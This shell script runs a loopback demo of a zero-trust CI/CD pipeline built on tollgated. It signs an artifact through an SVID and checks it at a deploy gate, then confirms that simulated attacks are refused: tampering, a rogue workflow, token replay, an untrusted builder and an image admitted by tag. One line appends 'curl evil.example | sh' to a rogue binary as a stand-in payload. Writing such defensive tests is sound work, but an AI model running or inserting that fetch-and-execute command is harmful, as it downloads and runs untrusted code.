#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# demo.sh BINARY - a zero-trust CI/CD pipeline on loopback, end to end.
# tollgated (next to BINARY) runs on its embedded default (--dev) in a
# temporary directory; a local OIDC issuer stands in for GitHub Actions; a
# CI job attests, gets an SVID, builds, signs through tollgated, and the
# gate allows the artifact; then each attack is refused with its reason.
# Prints a report and, last, "demo: A allowed, D denied, U unexpected";
# exits 1 when U > 0 (an outcome other than the scenario expects), 2 when
# it cannot run. Everything it starts is stopped and removed on exit.
set -u

bin=${1:?usage: demo.sh BINARY}
[ -x "$bin" ] || { echo "demo: '$bin' is not an executable" >&2; exit 2; }
TG=$(realpath "$bin")
TGD="$(dirname "$TG")/tollgated"
[ -x "$TGD" ] || { echo "demo: tollgated is not built next to $TG" >&2; exit 2; }
for prog in openssl python3 awk paste; do
	command -v "$prog" >/dev/null 2>&1 || {
		echo "demo: needs '$prog' (scripts/deps.sh demo installs it)" >&2
		exit 2
	}
done
start=$(date +%s)
WORK=$(mktemp -d "${TMPDIR:-/tmp}/tollgate-demo.XXXXXX")
SRV_PID=
cleanup() {
	if [ -n "$SRV_PID" ]; then
		kill "$SRV_PID" 2>/dev/null
		wait "$SRV_PID" 2>/dev/null
		# tollgated says nothing on stderr unless something is wrong
		if [ -s "$WORK/srv.err" ]; then
			echo "demo: tollgated's standard error:" >&2
			head -c 8000 "$WORK/srv.err" >&2
		fi
	fi
	rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
cd "$WORK" || exit 2
STATE="$WORK/state"

die() {
	printf 'demo: cannot go on: %s\n' "$*" >&2
	[ -s err.txt ] && sed 's/^/    /' err.txt >&2
	exit 2
}

# ---------------------------------------------------------------------
# the report: step TITLE, then outcome EXPECTED GOT WHY LOGGED
n=0 allowed=0 denied=0 unexpected=0 skipped=0
step() {
	n=$((n + 1))
	printf '\n[%d] %s\n' "$n" "$1"
}
outcome() { # outcome allow|deny allow|deny WHY [LOGGED]
	if [ "$2" = allow ]; then allowed=$((allowed + 1)); else denied=$((denied + 1)); fi
	if [ "$2" = allow ]; then _v=ALLOWED; else _v=DENIED; fi
	if [ "$1" = "$2" ]; then
		printf '    %-8s %s\n' "$_v" "(as expected)"
	else
		unexpected=$((unexpected + 1))
		printf '    %-8s %s\n' "$_v" "UNEXPECTED: the scenario expects ${1}ed"
	fi
	[ -n "$3" ] && printf '    why:     %s\n' "$3"
	[ -n "${4:-}" ] && printf '    logged:  %s\n' "$4"
	return 0
}
skip() {
	skipped=$((skipped + 1))
	printf '    NOT RUN  %s\n' "$1"
}
# the reason a CLI call gave on stderr, without the program's prefix
err_reason() { sed -n '1{s/^tollgate: //;p}' err.txt; }
# the first deny reason of a gate check (the first naming bundle NAME when
# given and there is one), else the first rejected bundle
gate_reason() { # gate_reason [NAME]
	_r=$(sed -n 's/^  - //p' out.txt | grep -F -- "${1:-}" | head -n1)
	[ -n "$_r" ] || _r=$(sed -n 's/^  - //p' out.txt | head -n1)
	[ -n "$_r" ] || _r=$(sed -n 's/^  rejected //p' out.txt | head -n1)
	printf '%s' "$_r"
}
# the transparency log entries the decision used
gate_logged() {
	_l=$(sed -n 's/^  verified \([a-z]*\) \([^:]*\): .*, log index \([0-9]*\).*/\2 at log index \3/p' out.txt |
		paste -sd ';' - | sed 's/;/; /g')
	_j=$(sed -n 's/^  rejected \([^:]*\): \(.*\)/\1 rejected (\2)/p' out.txt | paste -sd ';' - |
		sed 's/;/; /g')
	[ -n "$_l" ] && [ -n "$_j" ] && _l="$_l; "
	if [ -n "$_l$_j" ]; then
		printf '%s%s' "$_l" "$_j"
	else
		printf 'no evidence for %s (nothing signed it)' "$(sed -n 's/^[a-z]*: //p' out.txt | head -n1)"
	fi
}

# ---------------------------------------------------------------------
# the gate: tollgated's POST /v1/verify (`tollgate gate check --server`) and
# POST /v1/admission decide on the evidence stored with tollgated (`tollgate
# sign --server` stores each bundle) under its trusted root and gate_data.
# The commented line of each function is the offline equivalent: the same
# library over the bundles given, with tollgated's trusted root.
GATE_VIA="tollgated (POST /v1/verify via tollgate gate check --server, POST /v1/admission)"
gate_check() { # gate_check ARTIFACT -> out.txt as `gate check` prints it; 0 allowed, 1 denied
	# shellcheck disable=SC2086
	"$TG" gate check "$1" $S --json >decision.json 2>err.txt
	# "$TG" gate check "$1" --trusted-root "$STATE/trusted_root.json" --data gate.json --evidence evidence --json >decision.json 2>err.txt
	_rc=$?
	[ "$_rc" -le 1 ] || return "$_rc"
	decision_text decision.json evidence/*.json ./*.sig.json ./*.prov.json >out.txt || return 3
	return "$_rc"
}
admission() { # admission REVIEW.json -> out.txt (the AdmissionReview response); 0 allowed, 1 denied
	post_admission "$1" >out.txt 2>err.txt
	# "$TG" admission review "$1" --trusted-root "$STATE/trusted_root.json" --evidence evidence --data gate.json >out.txt 2>err.txt
}
# the decision document (docs/gate.md) as `gate check` prints it, bundles
# named by the local files with the same digest
decision_text() { # DECISION.json BUNDLE...
	python3 - "$@" <<'PY'
import hashlib, json, sys
d = json.load(open(sys.argv[1]))
names = {}
for f in sys.argv[2:]:
    try:
        h = hashlib.sha256(open(f, "rb").read()).hexdigest()
    except OSError:
        continue
    names["sha256:" + h] = f[2:] if f.startswith("./") else f
def name(b):
    return b.get("name") or names.get(b["bundle"], b["bundle"][:19] + "...")
def named(text):
    for dg, n in names.items():
        text = text.replace(dg, n)
    return text
print(("allowed: " if d["allow"] else "denied: ") + d["artifact"])
for r in d["deny"]:
    print("  - " + named(r))
for e in d["evidence"]:
    print("  verified %s %s: %s (issuer %s), log index %d"
          % (e["kind"], name(e), e["identity"], e["issuer"], e["log_index"]))
for r in d["rejected"]:
    print("  rejected %s: %s" % (name(r), r["reason"]))
PY
}
# POST /v1/admission, the server checked by its SPIFFE ID (its certificate
# names no host); exit 0 allowed, 1 denied, 3 failed
post_admission() { # post_admission REVIEW.json
	python3 - "${URL##*:}" "$STATE/ca.pem" "$1" <<'PY'
import http.client, json, ssl, sys
port, ca, review = int(sys.argv[1]), sys.argv[2], sys.argv[3]
ctx = ssl.create_default_context(cafile=ca)
ctx.check_hostname = False  # verify_mode stays CERT_REQUIRED; the SPIFFE ID is checked below
c = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=30)
try:
    c.connect()
    uris = [v for k, v in c.sock.getpeercert().get("subjectAltName", ()) if k == "URI"]
    if "spiffe://tollgate.test/tollgated" not in uris:
        sys.stderr.write("the server is %s, not spiffe://tollgate.test/tollgated\n" % uris)
        sys.exit(3)
    c.request("POST", "/v1/admission", open(review, "rb").read(),
              {"Content-Type": "application/json"})
    r = c.getresponse()
    body = r.read()
except (OSError, ssl.SSLError, http.client.HTTPException) as e:
    sys.stderr.write("POST /v1/admission: %s\n" % e)
    sys.exit(3)
if r.status != 200:
    sys.stderr.write("POST /v1/admission: HTTP %d: %s\n" % (r.status, body[:400]))
    sys.exit(3)
sys.stdout.write(body.decode() + "\n")
sys.exit(0 if json.loads(body)["response"]["allowed"] is True else 1)
PY
}
adm_annotations() { # decision, mode, images; the reasons are in "why"
	tr -d '\n' <out.txt | grep -o '"auditAnnotations":{[^}]*}' |
		grep -o '"\(decision\|mode\|images\)":"[^"]*"' | tr -d '"' | tr ':' '=' | paste -sd ' ' -
}
log_index() { grep -o '"logIndex": *"[0-9]*"' "$1" | head -n1 | tr -dc 0-9; }
adm_message() { sed -n 's/.*"status":{"code":[0-9]*,"message":"\([^"]*\)".*/\1/p' out.txt; }
gate_tail() { # the verdict line of a gate check, checked against its exit status
	case "$1:$(head -n1 out.txt)" in
	0:allowed:*) echo allow ;;
	1:denied:*) echo deny ;;
	*) cat out.txt err.txt >&2; die "gate check exited $1" ;;
	esac
}

"$TG" --version >version.txt 2>err.txt || die "tollgate --version failed"
printf '%s: a zero-trust CI/CD pipeline on loopback\n' "$(cat version.txt)"

# ---------------------------------------------------------------------
# the stand-in for GitHub Actions' OIDC issuer: a key, its JWK set, and
# tokens with GitHub Actions claims signed by it
GH_ISS=https://token.actions.githubusercontent.com
"$TG" key generate --type ecdsa-p256 --out issuer.pem 2>err.txt || die "key generate"
"$TG" key public --format jwk issuer.pem >issuer.jwk 2>err.txt || die "key public"
printf '{"keys":[%s]}\n' "$(cat issuer.jwk)" >issuer.jwks
now=$(date +%s)
jti=0
mint() { # mint FILE WORKFLOW [REPO]: a CI token of REPO's WORKFLOW on main
	jti=$((jti + 1))
	_repo=${3:-acme/app}
	_wf="$_repo/.github/workflows/$2@refs/heads/main"
	cat >"$1.claims" <<EOF
{"iss":"$GH_ISS","aud":"tollgate","sub":"repo:$_repo:ref:refs/heads/main",
 "iat":$now,"nbf":$now,"exp":$((now + 600)),"jti":"demo-$$-$jti",
 "repository":"$_repo","repository_id":"424242","repository_owner":"${_repo%%/*}",
 "repository_owner_id":"2020","repository_visibility":"private",
 "ref":"refs/heads/main","ref_type":"branch","sha":"0123456789abcdef0123456789abcdef01234567",
 "workflow_ref":"$_wf","job_workflow_ref":"$_wf","event_name":"push",
 "run_id":"7001","run_attempt":"1","actor":"octocat","actor_id":"1",
 "runner_environment":"github-hosted"}
EOF
	"$TG" jwt sign --key issuer.pem --claims "$1.claims" >"$1" 2>err.txt || die "jwt sign $1"
}

# ---------------------------------------------------------------------
# Can tollgated sign SLSA provenance? (`tollgate sign --server
# --provenance` refuses with a usage error before connecting while not.)
awk 'BEGIN { for (i = 0; i < 4000; i++) printf "build output line %05d\n", i }' >app.bin
printf 'x' >probe.jwt
"$TG" sign app.bin --server https://127.0.0.1:9 --ca-file /dev/null --oidc-token probe.jwt \
	--provenance --bundle probe.json >out.txt 2>err.txt
if [ $? -eq 2 ] && grep -q 'not yet' err.txt; then
	PROVENANCE=no
	PROV_WHY="tollgated cannot sign provenance yet ($(err_reason))"
else
	PROVENANCE=yes
fi
rm -f app.bin probe.json

# the gate's configuration (policies/gate/default.rego, docs/gate.md): who
# may sign, which builders and sources are trusted; tollgated loads it
SPIFFE_ID=spiffe://tollgate.test/ci/acme/app/release
RELEASE="acme/app/.github/workflows/release.yml@refs/heads/main"
if [ "$PROVENANCE" = yes ]; then
	cat >gate.json <<EOF
{"tollgate": {"gate": {"config": {
  "signers": [{"identity": "$SPIFFE_ID", "issuer": "spiffe://tollgate.test"},
              {"identity": "https://github.com/$RELEASE", "issuer": "$GH_ISS"},
              {"identity": "https://github.com/acme/app/.github/workflows/build.yml@refs/heads/main",
               "issuer": "$GH_ISS"}],
  "builders": [{"id": "https://github.com/$RELEASE"}],
  "sources": [{"repository": "https://github.com/acme/app"}],
  "require_provenance": true, "max_age_seconds": 3600}}}}
EOF
else
	cat >gate.json <<EOF
{"tollgate": {"gate": {"config": {
  "signers": [{"identity": "$SPIFFE_ID", "issuer": "spiffe://tollgate.test"}],
  "require_provenance": false, "max_age_seconds": 3600}}}}
EOF
fi

# ---------------------------------------------------------------------
step "tollgated starts on loopback with its embedded default (--dev), trusting the CI issuer"
mkdir "$STATE"
cat >"$STATE/config.json" <<EOF
{"oidc_issuers": [{"issuer": "$GH_ISS", "audience": "tollgate",
   "jwks_file": "$WORK/issuer.jwks", "profile": "github"}],
 "gate_data": "$WORK/gate.json"}
EOF
"$TGD" --dev "$STATE" --listen 127.0.0.1:0 >srv.out 2>srv.err &
SRV_PID=$!
i=0
until grep -q '^listening on ' srv.out 2>/dev/null; do
	kill -0 "$SRV_PID" 2>/dev/null || { cat srv.err >&2; SRV_PID=; die "tollgated exited"; }
	i=$((i + 1))
	[ "$i" -lt 300 ] || { cat srv.err >&2; die "tollgated did not start in 30 s"; }
	sleep 0.1
done
URL=$(sed -n 's/^listening on //p' srv.out)
S="--server $URL --ca-file $STATE/ca.pem"
printf '    %s (pid %s); trust domain roots in state/ca.pem, Sigstore trusted root in state/trusted_root.json\n' \
	"$URL" "$SRV_PID"
printf '    gate: the default policy with gate.json: signers %s\n' \
	"$(grep -o '"identity": "[^"]*"' gate.json | sed 's/"identity": //' | paste -sd ' ' -)"

# the release workflow of acme/app on main is registered; nothing else is
"$TG" entry create --dir "$STATE/ca" --spiffe-id "$SPIFFE_ID" \
	--selector github:repository_id:424242 --selector github:ref:refs/heads/main \
	--selector "github:job_workflow_ref:$RELEASE" >/dev/null 2>err.txt || die "entry create"
printf '    registered %s for github:repository_id:424242, github:ref:refs/heads/main,\n' "$SPIFFE_ID"
printf '      github:job_workflow_ref:%s\n' "$RELEASE"

# ---------------------------------------------------------------------
step "CI job (release.yml) attests to tollgated with its OIDC token"
mint ci.jwt release.yml
# shellcheck disable=SC2086
if "$TG" attest $S --oidc-token ci.jwt --x509-out svid >out.txt 2>err.txt; then
	awk '/BEGIN/{n++} n>=2' svid/svid.pem >inter.pem
	awk '/BEGIN/{n++} n==1' svid/svid.pem >leaf.pem
	openssl verify -CAfile "$STATE/ca.pem" -untrusted inter.pem leaf.pem >/dev/null 2>&1 ||
		die "openssl does not verify the X509-SVID against state/ca.pem"
	outcome allow allow "the token verified and matched the entry: X509-SVID for $(cat out.txt)" \
		"not in the transparency log (an SVID is an identity, not an artifact); openssl verified the chain"
else
	outcome allow deny "$(err_reason)"
	die "the CI job has no identity"
fi

# ---------------------------------------------------------------------
step "CI job builds app.bin and signs it through tollgated with its SVID (mTLS)"
awk 'BEGIN { for (i = 0; i < 4000; i++) printf "build output line %05d\n", i }' >app.bin
"$TG" digest app.bin >out.txt 2>err.txt || die "digest"
DG=$(sed 's/^sha256:\([0-9a-f]*\) .*/\1/' out.txt)
mkdir evidence
# shellcheck disable=SC2086
if "$TG" sign app.bin $S --svid svid/svid.pem --svid-key svid/svid.key \
	--bundle evidence/app.sig.json >out.txt 2>err.txt; then
	outcome allow allow "signing certificate for $SPIFFE_ID, RFC 3161 timestamp, hashedrekord entry; bundle stored on tollgated" \
		"log index $(log_index evidence/app.sig.json) of tollgated's log (app.bin sha256:$DG)"
else
	outcome allow deny "$(err_reason)"
	die "the artifact is not signed"
fi
if [ "$PROVENANCE" = yes ]; then
	mint prov.jwt release.yml
	# shellcheck disable=SC2086
	"$TG" sign app.bin $S --oidc-token prov.jwt --provenance --bundle evidence/app.prov.json \
		>out.txt 2>err.txt || die "tollgated did not sign the provenance: $(err_reason)"
	printf '    and SLSA provenance v1 signed through tollgated (evidence/app.prov.json), log index %s\n' \
		"$(log_index evidence/app.prov.json)"
else
	printf '    no SLSA provenance: %s\n' "$PROV_WHY"
fi

# ---------------------------------------------------------------------
step "gate: may app.bin be deployed?"
gate_check app.bin
got=$(gate_tail $?)
if [ "$got" = allow ]; then
	why="an allowed signer: $(sed -n 's/^  verified //p' out.txt | sed 's/, log index.*//' |
		paste -sd ';' - | sed 's/;/; /g')"
else
	why=$(gate_reason)
fi
outcome allow "$got" "$why" "$(gate_logged)"

# a Kubernetes Deployment of the image by digest
review() { # review FILE IMAGE
	cat >"$1" <<EOF
{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{
 "uid":"demo-$1","kind":{"group":"apps","version":"v1","kind":"Deployment"},
 "resource":{"group":"apps","version":"v1","resource":"deployments"},
 "name":"web","namespace":"prod","operation":"CREATE",
 "object":{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"prod"},
  "spec":{"selector":{"matchLabels":{"app":"web"}},"template":{"metadata":{"labels":{"app":"web"}},
   "spec":{"containers":[{"name":"web","image":"$2"}]}}}}}}
EOF
}
step "admission: Deployment 'web' of ghcr.io/acme/app@sha256:${DG%"${DG#????????????}"}..."
review by-digest.json "ghcr.io/acme/app@sha256:$DG"
admission by-digest.json
case $? in
0) outcome allow allow "the image's digest has evidence the gate allows" \
	"the AdmissionReview response's auditAnnotations: $(adm_annotations)" ;;
1) outcome allow deny "$(adm_message)" ;;
*) cat out.txt err.txt >&2; die "admission review failed" ;;
esac

# ---------------------------------------------------------------------
printf '\n--- attacks ---\n'
step "attack: app.bin tampered after signing (a backdoor appended)"
cp app.bin evil.bin
printf 'backdoor\n' >>evil.bin
gate_check evil.bin
got=$(gate_tail $?)
outcome deny "$got" "$(gate_reason)" "$(gate_logged)"

step "attack: an unregistered workflow (rogue.yml) attests to get an SVID"
mint rogue.jwt rogue.yml
# shellcheck disable=SC2086
if "$TG" attest $S --oidc-token rogue.jwt --x509-out rogue-svid >out.txt 2>err.txt; then
	outcome deny allow "issued $(cat out.txt)"
else
	outcome deny deny "$(err_reason)" "refused by tollgated, nothing issued"
fi

step "attack: rogue.yml builds its own rogue.bin and signs it keylessly with its OIDC token"
cp app.bin rogue.bin
printf 'curl evil.example | sh\n' >>rogue.bin
mint rogue2.jwt rogue.yml
# shellcheck disable=SC2086
if "$TG" sign rogue.bin $S --oidc-token rogue2.jwt --bundle rogue.sig.json >out.txt 2>err.txt; then
	gate_check rogue.bin
	got=$(gate_tail $?)
	outcome deny "$got" "$(gate_reason rogue.sig.json)" \
		"$(gate_logged) (tollgated signs and logs any configured issuer's workflow; the gate decides)"
else
	outcome deny deny "$(err_reason)" "refused by tollgated, nothing signed"
fi

step "attack: the CI token is replayed to attest a second time"
# shellcheck disable=SC2086
if "$TG" attest $S --oidc-token ci.jwt --x509-out replay-svid >out.txt 2>err.txt; then
	outcome deny allow "issued $(cat out.txt)"
else
	outcome deny deny "$(err_reason)" "refused by tollgated (jti in its replay cache)"
fi

step "attack: SLSA provenance from an untrusted builder (build.yml may sign, but is no builder)"
if [ "$PROVENANCE" = yes ]; then
	cp app.bin side.bin
	printf 'built elsewhere\n' >>side.bin
	mint side.jwt release.yml
	# shellcheck disable=SC2086
	"$TG" sign side.bin $S --oidc-token side.jwt --bundle side.sig.json >out.txt 2>err.txt ||
		die "tollgated did not sign side.bin: $(err_reason)"
	mint build.jwt build.yml
	# shellcheck disable=SC2086
	if "$TG" sign side.bin $S --oidc-token build.jwt --provenance --bundle build.prov.json \
		>out.txt 2>err.txt; then
		gate_check side.bin
		got=$(gate_tail $?)
		outcome deny "$got" "$(gate_reason build.prov.json)" "$(gate_logged)"
	else
		outcome deny deny "$(err_reason)" "refused by tollgated, nothing signed"
	fi
else
	skip "$PROV_WHY"
fi

step "attack: admission of the image by tag (ghcr.io/acme/app:latest) instead of digest"
review by-tag.json ghcr.io/acme/app:latest
admission by-tag.json
case $? in
0) outcome deny allow "admitted" ;;
1) outcome deny deny "$(adm_message)" \
	"the AdmissionReview response's auditAnnotations: $(adm_annotations)" ;;
*) cat out.txt err.txt >&2; die "admission review failed" ;;
esac

# ---------------------------------------------------------------------
printf '\ngate decisions: %s\n' "$GATE_VIA"
[ "$skipped" -gt 0 ] && printf '%d step(s) not run: see NOT RUN above\n' "$skipped"
printf 'took %d s\n' $(($(date +%s) - start))
printf 'demo: %d allowed, %d denied, %d unexpected\n' "$allowed" "$denied" "$unexpected"
[ "$unexpected" -eq 0 ]
